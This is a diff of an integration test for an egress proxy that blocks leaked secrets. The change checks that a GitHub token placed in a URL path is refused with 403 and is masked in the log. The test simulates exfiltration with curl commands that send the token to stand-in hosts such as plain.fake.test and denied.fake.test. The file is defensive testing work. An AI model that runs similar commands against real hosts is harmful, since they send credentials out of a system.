@@ -93,7 +93,7 @@ dockerTest("the proxy scans what framing, keep-alive and split records used to h
     );
 
     await t.step(
-      "every allowed HTTPS host is intercepted: a secret POSTed to one that is not a route (in base64, in base64 pieces across the query, in base64 of UTF-16, with letters glued on) is refused and logged, events and downloads still stream",
+      "every allowed HTTPS host is intercepted: a secret POSTed to one that is not a route (in base64, in base64 pieces across the query, in base64 of UTF-16, with letters glued on, in the path) is refused and logged with the secret hidden, events and downloads still stream",
       async () => {
         const encoded = btoa(`ci token ${token}`);
         const r = await sh(
@@ -135,6 +135,24 @@ dockerTest("the proxy scans what framing, keep-alive and split records used to h
         );
         assert.match(glued.stdout, /^403\n.*GitHub token \(rule github-token\) in the body/);
         assert.ok(!(await reached("/v1/glued")), "nothing reached the host");
+        // In a URL's path, to an allowed host and to one outside the allowlist: refused,
+        // and the log names the path with the token hidden.
+        const inPath = await sh(
+          `curl -sS -o /dev/null -w '%{http_code}' https://plain.fake.test/v1/p/${token}; echo; ` +
+            `curl -sS -o /dev/null -w '%{http_code}' http://denied.fake.test/x/${token}`,
+        );
+        assert.deepEqual(inPath.stdout.trim().split("\n"), ["403", "403"], inPath.stderr);
+        const logged = JSON.stringify(await log());
+        assert.ok(!logged.includes(token), "the log does not hold the token");
+        assert.ok(!logged.includes(`${token.slice(0, 20)}`), "nor a piece of it");
+        assert.match(
+          logged,
+          /"host":"plain\.fake\.test","port":443,"path":"\[GitHub token hidden\]"/,
+        );
+        assert.match(
+          logged,
+          /"host":"denied\.fake\.test","port":80,"path":"\[GitHub token hidden\]"/,
+        );
 
         const drip = await sh(
           'curl -sSN https://plain.fake.test/drip | while read -r line; do if [ -n "$line" ]; then echo "$(date +%s%N) $line"; fi; done',
